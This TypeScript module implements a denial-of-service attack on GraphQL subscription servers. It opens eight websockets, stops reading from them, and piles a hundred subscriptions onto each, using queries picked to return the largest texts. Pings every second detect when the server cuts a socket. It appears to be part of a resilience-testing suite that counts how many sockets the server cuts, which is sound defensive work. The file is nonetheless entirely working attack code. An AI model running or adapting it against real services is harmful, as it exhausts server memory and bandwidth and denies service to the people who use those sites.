import type { Attack } from './attack.ts';
import { openGraphqlSocket } from './graphql-socket.ts';
import { persistently } from './persistently.ts';

const SOCKETS = 8;
const SUBSCRIPTIONS = 100;
const PING_MS = 1_000;
const ADDRESS = '203.0.113.4';
/** Each state has the longest texts that the site allows. */
const QUERY =
  'subscription ($title: String!) { legal_pages(where: {title: {_neq: $title}}, limit: 1) { body body_ar } }';

let serial = 0;

/** Holds a hundred subscriptions of distinct values on each of eight sockets and never reads a byte of their states. */
export const unreadSockets: Attack = async (target) => {
  const sockets = await Promise.all(Array.from({ length: SOCKETS }, () => unreadSocket(target)));

  return {
    stop: async () => {
      const outcomes = await Promise.all(sockets.map((socket) => socket.stop()));
      const cut = outcomes
        .flatMap((outcome) => Object.values(outcome))
        .reduce((sum, count) => sum + count, 0);
      return { 'sockets cut': cut };
    },
  };
};

const unreadSocket: Attack = ({ url }) =>
  persistently(async () => {
    const { socket, subscribe } = await openGraphqlSocket({ url, address: ADDRESS });
    socket.pause();
    for (let at = 0; at < SUBSCRIPTIONS; at += 1) {
      serial += 1;
      subscribe(String(at), { query: QUERY, variables: { title: `Title ${serial}` } });
    }
    // A socket that reads nothing learns only by writing that it was cut.
    const timer = setInterval(() => socket.ping(), PING_MS);
    socket.once('close', () => clearInterval(timer));

    return socket;
  });
